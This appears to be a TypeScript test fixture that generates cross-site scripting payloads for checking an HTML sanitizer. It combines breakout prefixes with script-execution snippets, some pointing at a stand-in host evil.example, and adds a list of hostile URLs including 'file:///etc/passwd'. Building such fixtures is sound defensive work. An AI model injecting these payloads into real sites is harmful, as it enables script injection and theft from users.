/** Hostile words, made by crossing ways to break out with things to run; the same ones each time. */

const breakouts = [
  '',
  '"',
  "'",
  '">',
  "'>",
  '-->',
  ']]>',
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '</svg>',
  '</td></tr></table>',
  '\u2028',
  '`',
  '{{',
  '${',
  '&lt;',
  '%3c',
  '\u00a0',
]
const runs = [
  '<script>HIT</script>',
  '<img src=x onerror=HIT>',
  '<svg onload=HIT>',
  '<svg><script>HIT</script></svg>',
  '<iframe srcdoc="<script>parent.HIT</script>"></iframe>',
  '<a href="javascript:HIT">x</a>',
  '<body onload=HIT>',
  '<details open ontoggle=HIT>',
  '<input autofocus onfocus=HIT>',
  '<math><mtext></table><mglyph><style><img src=x onerror=HIT>',
  '<style>@import "//evil.example/x"</style>',
  '<link rel=stylesheet href=//evil.example/x>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=javascript:HIT">',
  '<form action=//evil.example><button>x</button></form>',
  '<object data="javascript:HIT"></object>',
  '<embed src="javascript:HIT">',
  '<video><source onerror=HIT></video>',
  '<noscript><p title="</noscript><img src=x onerror=HIT>">',
  ' onmouseover=HIT x=',
  ' style=animation-name:x onanimationstart=HIT ',
  '<x onclick=HIT tabindex=1 autofocus onfocus=HIT>',
  'javascript:HIT',
  'data:text/html,<script>HIT</script>',
  '<template><script>HIT</script></template>',
]

export function payloads(count: number): string[] {
  const all = breakouts.flatMap((breakout, b) =>
    runs.map((run, r) => breakout + run.replaceAll('HIT', `window.hit=${b * runs.length + r + 1}`)),
  )
  // Every way to break out and every thing to run is among the first few.
  return Array.from({ length: Math.min(count, all.length) }, (_, index) => all[(index * 37) % all.length] as string)
}

/** Addresses that are no place to go. */
export const hostileAddresses = [
  'javascript:window.hit=1',
  'JAVASCRIPT:window.hit=1',
  ' javascript:window.hit=1',
  'java\tscript:window.hit=1',
  'data:text/html,<script>window.hit=1</script>',
  'vbscript:x',
  '//evil.example',
  'file:///etc/passwd',
]
